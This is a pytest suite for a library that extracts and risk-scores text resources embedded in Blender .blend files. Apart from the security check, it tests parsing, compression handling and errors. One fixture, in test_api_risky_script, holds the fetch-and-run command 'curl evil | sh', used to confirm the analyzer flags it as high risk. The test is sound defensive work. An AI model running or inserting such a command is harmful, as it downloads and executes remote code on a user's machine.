import gzip
import io
import pytest
import zstandard

import blendtext
from tests.blend_builder import RawBlock, build_blend, text_marker, text_payload

def example_blend(**kwargs) -> bytes:
    return build_blend([
        RawBlock(b"REND", b"\0" * 72),
        text_marker("Foo"),
        text_payload("hello"),
        text_payload("world"),
        RawBlock(b"DNA1", b"SDNA\0\0\0\0"),
    ], **kwargs)

expected_report = {
    "formatVersion": "300",
    "pointerWidth": 8,
    "totalBlockCount": 6,
    "textResources": [
        {
            "name": "Foo",
            "content": "hello\nworld",
            "originIndex": 1,
            "analysis": {
                "isStartup": False,
                "startupReasons": [],
                "riskLevel": "safe",
                "warnings": [],
            },
        }
    ],
}

def test_api_analyze():
    report = blendtext.analyze(example_blend())
    assert report.as_dict() == expected_report

def test_api_analyze_32bit_big_endian():
    report = blendtext.analyze(example_blend(pointer_width=4, little_endian=False, version=b"279"))
    assert report.version == "279"
    assert report.pointer_width == 4
    assert report.architecture == "32-bit"
    assert [text.content for text in report] == ["hello\nworld"]

def test_api_analyze_accepts_bytearray():
    assert blendtext.analyze(bytearray(example_blend())).as_dict() == expected_report

def test_api_risky_script():
    script = "import bpy\nimport os\ndef register():\n    os.system('curl evil | sh')\n"
    data = build_blend([text_marker("autorun.py"), text_payload(script)])
    (text,) = blendtext.analyze(data)
    assert text.name == "autorun.py"
    assert text.analysis.is_startup
    assert text.analysis.risk_level == blendtext.RiskLevel.high
    assert "System command execution" in text.analysis.warnings

def test_api_no_texts():
    report = blendtext.analyze(build_blend([RawBlock(b"REND", b"\0" * 8)]))
    assert len(report) == 0
    assert report.total_blocks == 2
    assert report.as_dict()["textResources"] == []

def test_api_bad_magic():
    with pytest.raises(blendtext.FormatError, match="Invalid blend magic"):
        blendtext.analyze(b"PK\x03\x04" + b"\0" * 40)

def test_api_gzip():
    data = example_blend()
    assert blendtext.analyze(gzip.compress(data)) == blendtext.analyze(data)

def test_api_zstd():
    data = example_blend()
    for compressor in (zstandard.ZstdCompressor(), zstandard.ZstdCompressor(write_content_size=False)):
        assert blendtext.analyze(compressor.compress(data)).as_dict() == expected_report

def test_api_decompress_disabled():
    with pytest.raises(blendtext.FormatError):
        blendtext.analyze(gzip.compress(example_blend()), blendtext.ExtractOptions(decompress=False))

def test_api_corrupt_gzip():
    with pytest.raises(blendtext.CompressionError, match="Invalid gzip stream"):
        blendtext.analyze(b"\x1f\x8bgarbage")

def test_api_truncated_zstd():
    data = build_blend([text_marker(f"Text{i}") for i in range(200)] + [text_payload("x" * 50)])
    compressed = zstandard.ZstdCompressor(write_content_size=False).compress(data)
    for cut in (4, len(compressed) // 2, len(compressed) - 1):
        with pytest.raises(blendtext.CompressionError, match="Truncated Zstandard stream"):
            blendtext.analyze(compressed[:cut])

def test_api_zstd_multiple_frames():
    data = example_blend()
    compressor = zstandard.ZstdCompressor()
    framed = compressor.compress(data[:40]) + compressor.compress(data[40:])
    assert blendtext.analyze(framed).as_dict() == expected_report

def test_api_lookahead_option():
    blocks = [text_marker("Far")] + [RawBlock(b"REND", b"")] * 5 + [text_payload("late")]
    data = build_blend(blocks)
    assert len(blendtext.analyze(data)) == 1
    assert len(blendtext.analyze(data, blendtext.ExtractOptions(lookahead=5))) == 0
    with pytest.raises(ValueError):
        blendtext.ExtractOptions(lookahead=0)

def test_api_read_from_path(tmp_path):
    path = tmp_path / "scene.blend"
    path.write_bytes(example_blend())
    assert blendtext.read(path).as_dict() == expected_report
    assert blendtext.read(str(path)).as_dict() == expected_report

def test_api_read_from_stream():
    with io.BytesIO(example_blend()) as fp:
        assert blendtext.read(fp).as_dict() == expected_report

    with pytest.raises(TypeError, match="text stream"):
        blendtext.read(io.StringIO("BLENDER-v300"))

    with pytest.raises(TypeError):
        blendtext.read(12345)

def test_api_report_sequence():
    report = blendtext.analyze(example_blend())
    assert report[0].name == "Foo"
    assert report[0].resource == blendtext.TextResource("Foo", "hello\nworld", 1)
    assert list(report) == list(report.texts)
    assert report.header == blendtext.FileHeader(8, True, "300")
